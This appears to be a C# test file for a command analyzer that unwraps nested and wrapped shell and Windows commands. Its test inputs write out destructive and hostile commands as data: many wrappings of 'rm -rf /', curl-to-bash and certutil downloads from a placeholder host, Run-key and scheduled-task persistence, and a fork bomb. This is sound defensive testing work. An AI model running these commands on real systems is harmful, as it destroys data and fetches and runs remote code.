namespace Palisade.Tests.Analyzers.Commands;

/// <summary>Whatever a command runs (wrapped, as a string, remotely, in inline code) is analysed as a command of its own.</summary>
public sealed class NestedCommandTests
{
    [Theory]
    [InlineData("bash -c 'rm -rf /'")]
    [InlineData("sh -c \"rm -rf /\"")]
    [InlineData("zsh -lc 'rm -rf /'")]
    [InlineData("eval 'rm -rf /'")]
    [InlineData("echo / | xargs rm -rf /")]
    [InlineData("env -i PATH=/bin rm -rf /")]
    [InlineData("sudo -u root -E rm -rf /")]
    [InlineData("nohup rm -rf / &")]
    [InlineData("timeout -s KILL 10 rm -rf /")]
    [InlineData("nice -n 19 rm -rf /")]
    [InlineData("watch -n 5 'rm -rf /'")]
    [InlineData("exec rm -rf /")]
    [InlineData("command rm -rf /")]
    [InlineData("builtin rm -rf /")]
    [InlineData("time rm -rf /")]
    [InlineData("stdbuf -oL rm -rf /")]
    [InlineData("setsid rm -rf /")]
    [InlineData("flock /tmp/l -c 'rm -rf /'")]
    [InlineData("doas -u root rm -rf /")]
    [InlineData("su - root -c 'rm -rf /'")]
    [InlineData("ssh -p 22 admin@host 'rm -rf /'")]
    [InlineData("find / -maxdepth 0 -exec rm -rf / \\;")]
    [InlineData("python3 -c \"import os; os.system('rm -rf /')\"")]
    [InlineData("perl -e 'system(\"rm -rf /\")'")]
    [InlineData("node -e \"require('child_process').execSync('rm -rf /')\"")]
    [InlineData("kubectl exec -it pod -- rm -rf /")]
    [InlineData("sudo sh -c 'sudo bash -c \"eval rm -rf /\"'")]
    [InlineData("trap 'rm -rf /' EXIT")]
    public void Wrapped_and_embedded_commands_are_visible(string line)
    {
        Assert.Contains("cmd: rm -r -f /", RecordingEffects.Lines(line));
    }

    [Fact]
    public void A_wrapped_command_keeps_its_wrapper_line_too()
    {
        var lines = RecordingEffects.Lines("sudo -u deploy rm -rf /srv/app");
        Assert.Contains("cmd: sudo -u deploy rm -rf /srv/app", lines);
        Assert.Contains("cmd: rm -r -f /srv/app", lines);
    }

    [Fact]
    public void Pipeline_stages_show_the_command_that_finally_runs()
    {
        Assert.Contains("pipe: curl -s http://x.example | bash", RecordingEffects.Lines("curl -s http://x.example | sudo -E env X=1 bash"));
    }

    [Theory]
    [InlineData("cmd /c \"certutil -urlcache -f http://x.example/a.exe a.exe\"", "cmd: certutil -urlcache -f http://x.example/a.exe a.exe")]
    [InlineData("cmd.exe /k whoami & reg add HKCU\\Software\\x /f", "cmd: reg add HKCU\\Software\\x /f")]
    [InlineData("powershell -NoProfile -Command \"Remove-Item -Recurse C:\\x\"", "cmd: remove-item -Recurse C:\\x")]
    [InlineData("pwsh -c \"cmd /c del /q C:\\x\"", "cmd: del /q C:\\x")]
    public void Windows_shells_inside_commands_are_read_in_their_dialect(string line, string expected)
    {
        Assert.Contains(expected, RecordingEffects.Lines(line));
    }

    [Theory]
    [InlineData("reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v x /d \"C:\\x.exe\" /f", "cmd: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe /f")]
    [InlineData("Invoke-WebRequest -Uri http://x.example/a -OutFile a.exe; Start-Process a.exe", "cmd: start-process a.exe")]
    [InlineData("schtasks /create /tn x /tr \"C:\\x.exe\" /sc onlogon", "cmd: schtasks /create /tn x /tr C:\\x.exe /sc onlogon")]
    public void Whole_lines_in_windows_dialects_are_recognized(string line, string expected)
    {
        Assert.Contains(expected, RecordingEffects.Lines(line));
    }

    [Fact]
    public void A_function_that_pipes_into_itself_in_the_background_is_described_as_such()
    {
        Assert.Contains("func: : calls-self piped background", RecordingEffects.Lines(":(){ :|:& };:"));
        Assert.Contains("func: f", RecordingEffects.Lines("f() { echo hi; }; f"));
    }

    [Fact]
    public void Nesting_is_bounded_and_reported()
    {
        var line = string.Concat(Enumerable.Repeat("eval ", 20)) + "id";
        Assert.Contains("note: unparseable nested too deeply", RecordingEffects.Lines(line));
    }
}
